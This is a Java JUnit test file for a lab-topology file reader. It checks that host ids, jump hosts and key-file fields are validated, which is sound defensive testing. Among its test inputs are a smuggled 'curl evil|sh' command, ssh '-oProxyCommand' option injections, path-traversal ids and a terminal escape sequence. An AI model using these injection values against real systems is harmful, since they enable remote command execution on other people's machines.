package io.linklab.store;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.node.ObjectNode;
import io.linklab.model.Topology;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A lab file from someone else: host ids are names, never paths, and the jump and key file that a "copy as shell
 * script" puts on an ssh command line are checked where the file is read. Each is refused with a message naming the
 * host's field and the rule, with the value shown escaped and short.
 */
class TopologyFilesHostileTest {

    @TempDir
    Path dir;

    private String refusal(String field, String value) throws Exception {
        ObjectNode root = TopologyFiles.toJson(Topology.loopback());
        ((ObjectNode) root.withArray("hosts").get(0)).put(field, value);
        root.withArray("links").removeAll(); // a link names the host by its id: refused for that alone otherwise
        Path f = dir.resolve("lab.json");
        JsonDocs.write(f, root);
        return assertThrows(FileFormatException.class, () -> TopologyFiles.read(f))
                .getMessage();
    }

    @Test
    void hostIdsThatArePathsOrHoldControlsOrAreHugeAreRefusedNamingTheField() throws Exception {
        for (String id : new String[] {"/home/x/data", "../../x", "..", "a/b", "id\u001b]52;c;Y3VybA==\u0007\nx"}) {
            String m = refusal("id", id);
            assertTrue(m.contains("\"hosts[0].id\""), m);
            assertTrue(m.contains("expected an id of 1 to 64 letters"), m);
            assertFalse(m.chars().anyMatch(c -> c < 0x20), "no raw control character in: " + m);
        }
        String huge = "h".repeat(1 << 20);
        String m = refusal("id", huge);
        assertTrue(m.contains("\"hosts[0].id\""), m);
        assertTrue(m.length() < 400, "the message quotes the id short, not 1 MB: " + m.length());
    }

    @Test
    void ordinaryIdsStillRead() throws Exception {
        for (String id : new String[] {"host1", "lab-a.example", "fd00::2", "h_1"}) {
            ObjectNode root = TopologyFiles.toJson(Topology.loopback());
            ((ObjectNode) root.withArray("hosts").get(0)).put("id", id);
            root.withArray("links").removeAll();
            Path f = dir.resolve("ok.json");
            JsonDocs.write(f, root);
            assertEquals(id, TopologyFiles.read(f).hosts().get(0).id());
        }
    }

    @Test
    void aJumpThatIsNoLoginAndAKeyFileThatIsNoPathAreRefused() throws Exception {
        String m = refusal("jump", "x;curl evil|sh");
        assertTrue(m.contains("\"hosts[0].jump\""), m);
        assertTrue(m.contains("expected [user@]host[:port]"), m);
        m = refusal("jump", "ok.example,-oProxyCommand=sh");
        assertTrue(m.contains("\"hosts[0].jump\""), m);
        m = refusal("identity", "id_rsa\n-oProxyCommand=x");
        assertTrue(m.contains("\"hosts[0].identity\""), m);
        m = refusal("identity", "keys/id_rsa");
        assertTrue(m.contains("an absolute path"), m);
    }
}
